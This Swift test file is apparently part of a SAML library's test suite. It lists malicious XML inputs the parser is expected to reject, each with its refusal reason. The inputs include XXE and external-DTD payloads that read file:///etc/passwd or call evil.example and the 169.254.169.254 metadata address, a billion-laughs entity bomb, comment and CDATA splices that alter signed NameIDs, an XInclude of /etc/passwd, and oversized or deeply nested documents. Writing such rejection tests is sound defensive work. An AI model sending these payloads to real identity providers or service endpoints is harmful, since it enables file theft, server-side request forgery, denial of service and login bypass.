import SAMLKit
import SignedXML

@testable import SAML

/// What goes for the reader of XML: encodings, document types, entities, comments, and sizes.
enum ReadingAttacks {
    private static func good() throws -> String { try TestIdentityProvider().response(ResponseDraft()) }

    private static func typed(_ name: String, _ declaration: String) -> Attack {
        Attack(name, .documentType) { declaration + (try good()) }
    }

    private static func bytes(
        _ name: String, _ reason: SAMLRefusal.Reason, _ make: @escaping @Sendable (String) -> [UInt8]
    ) -> Attack {
        .posted(name, reason) { Base64Text.encode(make(try good())) }
    }

    static let all = encodings + documentTypes + hidden + sizes

    private static let encodings: [Attack] = [
        .posted("nothing at all", .notBase64) { "" },
        .posted("not base64", .notBase64) { "<samlp:Response/>" },
        .posted("base64 for addresses", .notBase64) { "PHNhbWxwOlJlc3BvbnNl_-" },
        .posted("padding in the middle", .notBase64) { "PHNh=bWxw" },
        Attack("no XML", .malformed, xml: { "hello" }),
        Attack("blanks", .malformed, xml: { "   " }),
        Attack("JSON", .malformed, xml: { #"{"user":"admin"}"# }),
        Attack("cut in the middle", .malformed, xml: { String(try good().dropLast(200)) }),
        Attack("something behind the end", .malformed, xml: { try good() + "<evil/>" }),
        Attack("text behind the end", .malformed, xml: { try good() + "evil" }),
        Attack(
            "an unknown prefix", .malformed,
            xml: { try good().replacing(first: "<saml:Issuer>", with: "<evil:Issuer>") }),
        Attack("an attribute twice", .malformed) {
            try good().replacing(first: " Version=", with: " Version=\"2.0\" Version=")
        },
        Attack("an unknown entity", .malformed) { try good().replacing(first: "ana@", with: "&admin;@") },
        bytes("a NUL behind the end", .encoding) { Array($0.utf8) + [0] + Array("<evil/>".utf8) },
        bytes("a NUL in a name", .encoding) { Array($0.replacing(first: "ana@", with: "admin\u{0}@").utf8) },
        bytes("UTF-16", .encoding) { [0xFF, 0xFE] + $0.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] } },
        bytes("UTF-16 the other way round", .encoding) {
            [0xFE, 0xFF] + $0.utf16.flatMap { [UInt8($0 >> 8), UInt8($0 & 0xFF)] }
        },
        bytes("Latin 1", .encoding) {
            Array($0.replacing(first: "Ana Lind", with: "?").utf8).map { $0 == 63 ? 0xE4 : $0 }
        },
        bytes("a letter in too many bytes", .encoding) {
            Array($0.utf8).flatMap { $0 == UInt8(ascii: "@") ? [0xC1, 0x80] : [$0] }
        },
        bytes("half a surrogate", .encoding) {
            Array($0.utf8).flatMap { $0 == UInt8(ascii: "@") ? [0xED, 0xA0, 0x80] : [$0] }
        },
        Attack("UTF-7", .malformed, xml: { "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-Response/+AD4-" }),
    ]

    private static let bomb = """
        <!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\
        <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">\
        <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>
        """

    private static let documentTypes: [Attack] = [
        typed("a bare document type", "<!DOCTYPE Response>"),
        typed("a document type from here", "<!DOCTYPE Response SYSTEM \"file:///etc/passwd\">"),
        typed("a document type from there", "<!DOCTYPE Response SYSTEM \"http://169.254.169.254/latest/\">"),
        typed("a public document type", "<!DOCTYPE Response PUBLIC \"-//X//Y//EN\" \"http://evil.example/x.dtd\">"),
        typed("an empty subset", "<!DOCTYPE Response []>"),
        typed("an entity", "<!DOCTYPE r [<!ENTITY x \"admin\">]>"),
        typed("a file as an entity", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
        typed("an address as an entity", "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://evil.example/\">]>"),
        typed("a parameter entity", "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/x\">%x;]>"),
        typed("a default attribute", "<!DOCTYPE r [<!ATTLIST Assertion ID CDATA \"_evil\">]>"),
        typed("another attribute as ID", "<!DOCTYPE r [<!ATTLIST Evil wrap ID #REQUIRED>]>"),
        typed("a document type in small letters", "<!doctype html>"),
        typed("a document type behind the declaration", "<?xml version=\"1.0\"?><!DOCTYPE r []>"),
        Attack("a billion laughs", .documentType) { bomb + (try good().replacing(first: "ana@", with: "&f;@")) },
        Attack("one long entity many times", .documentType) {
            "<!DOCTYPE r [<!ENTITY a \"" + String(repeating: "a", count: 50_000) + "\">]>"
                + (try good().replacing(first: "ana@", with: String(repeating: "&a;", count: 5000)))
        },
        Attack("an entity declared in the middle", .documentType) {
            try good().replacing(first: "<saml:Subject>", with: "<!ENTITY x \"y\"><saml:Subject>")
        },
        Attack("a document type in the middle", .documentType) {
            try good().replacing(first: "<saml:Subject>", with: "<!DOCTYPE r []><saml:Subject>")
        },
    ]

    private static let hidden: [Attack] = [
        Attack.changed("a comment cuts the NameID", .comment) {
            $0.replacing(first: "ana@nordwind.example<", with: "ana@nordwind<!---->.example<")
        },
        Attack("a signed comment cuts the NameID", .comment) {
            var draft = ResponseDraft()
            draft.nameID = "<A:NameID>admin@nordwind.example.evil.example</A:NameID>"
            return try TestIdentityProvider().response(draft).replacing(first: ".evil", with: "<!---->.evil")
        },
        Attack.changed("a comment in the issuer", .comment) {
            $0.replacing(first: "/idp</saml:Issuer>", with: "<!--x-->/idp</saml:Issuer>")
        },
        Attack.changed("a comment in a group", .comment) { $0.replacing(first: ">admins<", with: ">adm<!-- -->ins<") },
        Attack.changed("a comment in the audience", .comment) {
            $0.replacing(first: "</saml:Audience>", with: "<!----></saml:Audience>")
        },
        Attack.changed("a comment in the digest", .comment) {
            $0.replacing(first: "</ds:DigestValue>", with: "<!----></ds:DigestValue>")
        },
        Attack.changed("a comment in the signature's value", .comment) {
            $0.replacing(first: "</ds:SignatureValue>", with: "<!----></ds:SignatureValue>")
        },
        Attack.changed("a comment before all", .comment) { "<!-- hello -->" + $0 },
        Attack.changed("a comment behind all", .comment) { $0 + "<!-- hello -->" },
        Attack.changed("a comment that does not end", .comment) { $0.replacing(first: "ana@", with: "ana<!--@") },
        Attack.changed("an instruction cuts the NameID", .instruction) {
            $0.replacing(first: "ana@", with: "ana<?x y?>@")
        },
        Attack.changed("a style sheet", .instruction) { "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>" + $0 },
        Attack.changed("an instruction behind all", .instruction) { $0 + "<?php system('id') ?>" },
        Attack.changed("CDATA cuts the NameID", .cdata) { $0.replacing(first: "ana@", with: "ana<![CDATA[]]>@") },
        Attack.changed("CDATA hides markup", .cdata) {
            $0.replacing(first: "ana@", with: "<![CDATA[<saml:NameID>]]>ana@")
        },
        Attack.changed("an inclusion", .digestMismatch) {
            $0.replacing(
                first: "<saml:AttributeStatement>",
                with:
                    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/><saml:AttributeStatement>"
            )
        },
    ]

    private static let sizes: [Attack] = [
        Attack("a message of a megabyte", .tooLarge) {
            try good().replacing(first: "ana@", with: String(repeating: "a", count: 1_000_000) + "@")
        },
        Attack("a message just over the bound", .tooLarge) {
            try good().replacing(first: "ana@", with: String(repeating: "a", count: 524_288) + "@")
        },
        Attack("nested a hundred times", .tooDeep) {
            try good().replacing(first: "<samlp:Status>", with: nested(100) + "<samlp:Status>")
        },
        Attack("nested fifty thousand times", .tooDeep) {
            try good().replacing(first: "<samlp:Status>", with: nested(50_000) + "<samlp:Status>")
        },
        Attack("opened and never closed", .tooDeep) { String(repeating: "<a>", count: 100_000) },
        Attack("fifty thousand elements", .tooManyElements) {
            try good().replacing(
                first: "<samlp:Status>", with: String(repeating: "<a/>", count: 50_000) + "<samlp:Status>")
        },
        Attack("fifty thousand attributes", .tooManyAttributes) {
            "<a" + (0..<50_000).map { " a\($0)=''" }.joined() + "/>"
        },
        Attack("a hundred attributes", .tooManyAttributes) {
            try good().replacing(first: " Version=", with: (0..<100).map { " a\($0)=\"\"" }.joined() + " Version=")
        },
        Attack("a hundred namespaces", .tooManyAttributes) {
            try good().replacing(
                first: " Version=", with: (0..<100).map { " xmlns:n\($0)=\"urn:\($0)\"" }.joined() + " Version=")
        },
        Attack("namespaces upon namespaces", .tooManyAttributes) {
            let levels = (0..<20).map { level in
                "<a" + (0..<10).map { " xmlns:n\(level)x\($0)=\"urn:x\"" }.joined() + ">"
            }
            return levels.joined() + String(repeating: "</a>", count: 20)
        },
        Attack("a namespace of a hundred kilobytes", .tooManyAttributes) {
            let long = String(repeating: "u", count: 100_000)
            return "<r xmlns:a=\"\(long)\">" + String(repeating: "<a:x/>", count: 8000) + "</r>"
        },
        Attack("a name of a hundred kilobytes", .malformed) {
            let long = String(repeating: "n", count: 100_000)
            return "<\(long)></\(long)>"
        },
    ]

    private static func nested(_ depth: Int) -> String {
        String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
    }
}
